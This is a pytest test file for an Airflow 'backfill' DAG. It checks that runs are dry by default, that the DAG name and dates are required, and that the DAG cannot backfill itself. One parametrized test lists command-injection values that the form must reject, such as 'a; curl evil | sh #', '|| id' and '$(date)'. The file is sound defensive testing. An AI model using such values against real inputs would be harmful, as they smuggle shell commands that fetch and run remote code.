"""The form of ``backfill``, and what its two tasks hand on. What they do: ``tests/operators/test_dag_backfill.py``."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from airflow.sdk.exceptions import AirflowFailException, ParamValidationError

from tests.dags.forms import filled_in
from tests.operators.airflow_api import Airflow

if TYPE_CHECKING:
    from airflow.sdk import DAG

GIVEN = {"dag_name": "orchard", "start_date": "2026-06-01", "end_date": "2026-06-02T04:00:00Z"}


def test_a_run_is_dry_unless_told_otherwise(dags: dict[str, DAG]) -> None:
    assert filled_in(dags["backfill"], **GIVEN) == GIVEN | {"clear": False, "dry_run": True, "task_regex": None}


@pytest.mark.parametrize("name", GIVEN)
def test_no_run_starts_without_its_dag_and_dates(dags: dict[str, DAG], name: str) -> None:
    with pytest.raises(ParamValidationError):
        filled_in(dags["backfill"], **{key: value for key, value in GIVEN.items() if key != name})


@pytest.mark.parametrize(
    "hostile",
    [
        {"task_regex": "a; curl evil | sh #"},
        {"task_regex": "pick\n"},
        {"dag_name": "orchard --yes"},
        {"dag_name": "~"},
        {"start_date": "2026-06-01 || id"},
        {"end_date": "$(date)"},
        {"dry_run": "no"},
        {"clear": "; id"},
    ],
)
def test_a_hostile_value_starts_no_run(dags: dict[str, DAG], hostile: dict[str, Any]) -> None:
    with pytest.raises(ParamValidationError):
        filled_in(dags["backfill"], **(GIVEN | hostile))


def test_its_tasks_ask_for_what_the_form_says(dags: dict[str, DAG], monkeypatch: pytest.MonkeyPatch) -> None:
    airflow = Airflow()
    monkeypatch.setattr("operators.dag_backfill.airflow_api", airflow.client)
    execute: Any = dags["backfill"].get_task("execute_backfill")
    follow: Any = dags["backfill"].get_task("follow_backfill")
    record = execute.execute({"params": filled_in(dags["backfill"], **GIVEN, clear=True, task_regex="^pick$")})
    assert list(record["planned"].values()) == [["pick"], ["pick"]]
    assert airflow.changed == []
    assert (follow.record.operator.task_id, follow.mode) == ("execute_backfill", "reschedule")
    with pytest.raises(AirflowFailException, match="backfill cannot clear or start itself"):
        execute.execute({"params": filled_in(dags["backfill"], **(GIVEN | {"dag_name": "backfill"}), dry_run=False)})


def test_what_changes_something_is_not_tried_again(dags: dict[str, DAG]) -> None:
    assert dags["backfill"].get_task("execute_backfill").retries == 0
